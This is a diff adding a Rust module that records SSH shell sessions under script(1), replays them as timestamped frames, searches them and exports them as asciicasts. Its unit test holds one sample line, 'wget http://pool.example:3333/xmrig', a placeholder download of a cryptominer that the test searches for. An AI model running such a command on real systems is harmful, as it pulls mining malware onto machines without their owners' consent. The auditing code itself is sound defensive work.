@@ -0,0 +1,319 @@
+//! SSH session recordings
+//! With recording on, the login gate runs a job user's interactive shell under script(1), which
+//! keeps the raw output with a timing file. Recordings are replayed here as timestamped output
+//! that can be scrubbed, searched and exported in asciinema's asciicast v2 format.
+//!
+//! The job user writes their own recording, so it documents a session rather than proving it.
+
+use serde::{Deserialize, Serialize};
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::time::{SystemTime, UNIX_EPOCH};
+
+/// Where the gate keeps recordings; job users may add files but not list or remove others'
+pub const RECORDINGS_DIR: &str = "/var/lib/eryzaa/recordings";
+
+/// Terminal size recordings are exported with; script(1) does not keep it
+const DEFAULT_WIDTH: u32 = 120;
+const DEFAULT_HEIGHT: u32 = 32;
+
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+pub struct RecordingMeta {
+    pub id: String,
+    pub username: String,
+    pub source: String,   // Client address from SSH_CONNECTION
+    pub started_at: u64, // Unix seconds
+    #[serde(default)]
+    pub command: Option<String>, // Non-interactive commands are noted but not recorded
+}
+
+#[derive(Debug, Clone, PartialEq)]
+pub struct Recording {
+    pub meta: RecordingMeta,
+    pub typescript: PathBuf,
+    pub timing: PathBuf,
+}
+
+impl Recording {
+    /// Create the directory so job users can add recordings but not remove anyone else's
+    pub fn prepare(dir: &Path) -> Result<(), String> {
+        std::fs::create_dir_all(dir).map_err(|e| format!("Failed to create {}: {}", dir.display(), e))?;
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o1733))
+                .map_err(|e| format!("Failed to set permissions on {}: {}", dir.display(), e))?;
+        }
+        Ok(())
+    }
+
+    fn paths(dir: &Path, meta: RecordingMeta) -> Self {
+        Self {
+            typescript: dir.join(format!("{}.typescript", meta.id)),
+            timing: dir.join(format!("{}.timing", meta.id)),
+            meta,
+        }
+    }
+
+    /// File a recording and build the command that runs `shell` under script(1)
+    ///
+    /// A non-interactive `command` (scp, rsync, ...) would break under a pty; it is only noted,
+    /// and the returned command runs it as is.
+    pub fn start(dir: &Path, username: &str, source: &str, shell: &str, command: Option<&str>) -> Result<(Self, Command), String> {
+        let started_at = SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default().as_secs();
+        let meta = RecordingMeta {
+            id: format!("{}-{}-{}", username, started_at, std::process::id()),
+            username: username.to_string(),
+            source: source.to_string(),
+            started_at,
+            command: command.map(|c| c.to_string()),
+        };
+        let recording = Self::paths(dir, meta);
+        let content = serde_json::to_string_pretty(&recording.meta)
+            .map_err(|e| format!("Failed to serialize recording: {}", e))?;
+        let meta_path = dir.join(format!("{}.json", recording.meta.id));
+        std::fs::write(&meta_path, content).map_err(|e| format!("Failed to write {}: {}", meta_path.display(), e))?;
+
+        let mut cmd = Command::new(shell);
+        match command {
+            Some(command) => {
+                cmd.args(["-c", command]);
+            }
+            None => {
+                cmd = Command::new("script");
+                cmd.args(["--quiet", "--flush", "--timing"])
+                    .arg(&recording.timing)
+                    .args(["--command", &format!("{} -l", shell)])
+                    .arg(&recording.typescript);
+            }
+        }
+        Ok((recording, cmd))
+    }
+
+    /// Recordings of interactive sessions in `dir`, newest first
+    pub fn list(dir: &Path) -> Vec<Recording> {
+        let Ok(entries) = std::fs::read_dir(dir) else {
+            return vec![];
+        };
+        let mut recordings: Vec<Recording> = entries
+            .flatten()
+            .filter(|entry| entry.path().extension().is_some_and(|e| e == "json"))
+            .filter_map(|entry| serde_json::from_str(&std::fs::read_to_string(entry.path()).ok()?).ok())
+            .map(|meta| Self::paths(dir, meta))
+            .filter(|recording| recording.typescript.exists())
+            .collect();
+        recordings.sort_by_key(|recording| std::cmp::Reverse(recording.meta.started_at));
+        recordings
+    }
+
+    pub fn load(&self) -> Result<Playback, String> {
+        let typescript = std::fs::read(&self.typescript)
+            .map_err(|e| format!("Failed to read {}: {}", self.typescript.display(), e))?;
+        let timing = std::fs::read_to_string(&self.timing)
+            .map_err(|e| format!("Failed to read {}: {}", self.timing.display(), e))?;
+        Ok(Playback::parse(&typescript, &timing))
+    }
+
+    /// Write the recording as an asciicast next to it, returning its path
+    pub fn export_asciicast(&self) -> Result<PathBuf, String> {
+        let path = self.typescript.with_extension("cast");
+        std::fs::write(&path, self.load()?.to_asciicast(&self.meta))
+            .map_err(|e| format!("Failed to write {}: {}", path.display(), e))?;
+        Ok(path)
+    }
+}
+
+/// Output written at one moment of a session
+#[derive(Debug, Clone, PartialEq)]
+pub struct Frame {
+    pub at: f64, // Seconds since the session started
+    pub data: String,
+}
+
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct Playback {
+    pub frames: Vec<Frame>,
+}
+
+impl Playback {
+    /// Pair script(1) output with its timing lines ("<delay> <bytes>")
+    ///
+    /// The "Script started" header is not covered by the timing file. Multi-byte characters
+    /// split between chunks are carried over to the next frame.
+    pub fn parse(typescript: &[u8], timing: &str) -> Self {
+        let mut offset = match typescript.starts_with(b"Script started") {
+            true => typescript.iter().position(|&b| b == b'\n').map(|i| i + 1).unwrap_or(typescript.len()),
+            false => 0,
+        };
+        let mut at = 0.0;
+        let mut pending: Vec<u8> = vec![];
+        let mut frames = vec![];
+        for line in timing.lines() {
+            let mut fields = line.split_whitespace();
+            let (Some(Ok(delay)), Some(Ok(bytes))) = (fields.next().map(str::parse::<f64>), fields.next().map(str::parse::<usize>)) else {
+                continue;
+            };
+            at += delay;
+            let end = (offset + bytes).min(typescript.len());
+            pending.extend_from_slice(&typescript[offset..end]);
+            offset = end;
+
+            let valid = match std::str::from_utf8(&pending) {
+                Ok(_) => pending.len(),
+                Err(e) if e.error_len().is_none() => e.valid_up_to(),
+                Err(_) => pending.len(),
+            };
+            let rest = pending.split_off(valid);
+            if !pending.is_empty() {
+                frames.push(Frame { at, data: String::from_utf8_lossy(&pending).into_owned() });
+            }
+            pending = rest;
+        }
+        Self { frames }
+    }
+
+    pub fn duration(&self) -> f64 {
+        self.frames.last().map(|frame| frame.at).unwrap_or(0.0)
+    }
+
+    /// Output lines up to `at`, each with the time it was started, escape sequences removed
+    pub fn lines_until(&self, at: f64) -> Vec<(f64, String)> {
+        let mut lines: Vec<(f64, String)> = vec![(0.0, String::new())];
+        for frame in self.frames.iter().take_while(|frame| frame.at <= at) {
+            for c in strip_escapes(&frame.data).chars() {
+                let current = &mut lines.last_mut().expect("at least one line").1;
+                match c {
+                    '\n' => lines.push((frame.at, String::new())),
+                    // Carriage return: what follows overwrites the line, unless a newline follows
+                    '\r' => current.push('\r'),
+                    '\u{8}' => {
+                        current.pop();
+                    }
+                    c if c.is_control() && c != '\t' => {}
+                    c => {
+                        if current.ends_with('\r') {
+                            current.clear();
+                        }
+                        current.push(c);
+                    }
+                }
+            }
+        }
+        for (_, line) in lines.iter_mut() {
+            line.retain(|c| c != '\r');
+        }
+        lines
+    }
+
+    /// The last `rows` lines of the screen at `at`
+    pub fn screen_at(&self, at: f64, rows: usize) -> String {
+        let lines = self.lines_until(at);
+        lines[lines.len().saturating_sub(rows)..]
+            .iter()
+            .map(|(_, line)| line.as_str())
+            .collect::<Vec<_>>()
+            .join("\n")
+    }
+
+    /// Output lines containing `query` (ignoring case), with when they were written
+    pub fn search(&self, query: &str) -> Vec<(f64, String)> {
+        let query = query.to_lowercase();
+        if query.is_empty() {
+            return vec![];
+        }
+        self.lines_until(f64::INFINITY)
+            .into_iter()
+            .filter(|(_, line)| line.to_lowercase().contains(&query))
+            .collect()
+    }
+
+    /// The session in asciinema's asciicast v2 format
+    pub fn to_asciicast(&self, meta: &RecordingMeta) -> String {
+        let header = serde_json::json!({
+            "version": 2,
+            "width": DEFAULT_WIDTH,
+            "height": DEFAULT_HEIGHT,
+            "timestamp": meta.started_at,
+            "title": format!("{} from {}", meta.username, meta.source),
+        });
+        let mut cast = format!("{}\n", header);
+        for frame in &self.frames {
+            cast.push_str(&format!("{}\n", serde_json::json!([frame.at, "o", frame.data])));
+        }
+        cast
+    }
+}
+
+/// Remove CSI, OSC and two-character escape sequences
+fn strip_escapes(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c != '\u{1b}' {
+            out.push(c);
+            continue;
+        }
+        match chars.next() {
+            // CSI: parameters until a final byte in @..~
+            Some('[') => {
+                for c in chars.by_ref() {
+                    if ('@'..='~').contains(&c) {
+                        break;
+                    }
+                }
+            }
+            // OSC: until BEL or ESC \
+            Some(']') => {
+                while let Some(c) = chars.next() {
+                    if c == '\u{7}' || (c == '\u{1b}' && chars.peek() == Some(&'\\')) {
+                        if c == '\u{1b}' {
+                            chars.next();
+                        }
+                        break;
+                    }
+                }
+            }
+            _ => {}
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_playback() {
+        let output = "Script started on 2026-10-16 10:00:00+00:00 [COMMAND=\"/bin/bash -l\"]\n\u{1b}[01;32mjob_1@node\u{1b}[00m$ ls\r\ndata  é.txt\r\n$ wget http://pool.example:3333/xmrig\r\n50%\r100%\r\n";
+        let body = output.split_once('\n').unwrap().1.as_bytes();
+        let e_acute = body.iter().position(|&b| b == 0xc3).unwrap();
+        // The first frame ends inside "é"
+        let timing = format!("0.5 {}\n1.25 {}\n2.0 {}\n", e_acute + 1, 30, body.len() - e_acute - 31);
+        let playback = Playback::parse(output.as_bytes(), &timing);
+
+        assert_eq!(playback.frames.len(), 3);
+        assert!(playback.frames[1].data.starts_with("é.txt"));
+        assert_eq!(playback.duration(), 3.75);
+        assert_eq!(playback.screen_at(0.5, 10), "job_1@node$ ls\ndata  ");
+        assert_eq!(playback.screen_at(10.0, 2), "100%\n");
+
+        let hits = playback.search("XMRIG");
+        assert_eq!(hits, vec![(1.75, "$ wget http://pool.example:3333/xmrig".to_string())]);
+
+        let meta = RecordingMeta {
+            id: "job_1-1".to_string(),
+            username: "job_1".to_string(),
+            source: "10.242.0.7".to_string(),
+            started_at: 1_760_608_800,
+            command: None,
+        };
+        let cast = playback.to_asciicast(&meta);
+        let mut lines = cast.lines();
+        let header: serde_json::Value = serde_json::from_str(lines.next().unwrap()).unwrap();
+        assert_eq!((header["version"].as_u64(), header["title"].as_str()), (Some(2), Some("job_1 from 10.242.0.7")));
+        let event: serde_json::Value = serde_json::from_str(lines.next().unwrap()).unwrap();
+        assert_eq!((event[0].as_f64(), event[1].as_str()), (Some(0.5), Some("o")));
+        assert_eq!(lines.count(), 2);
+    }
+}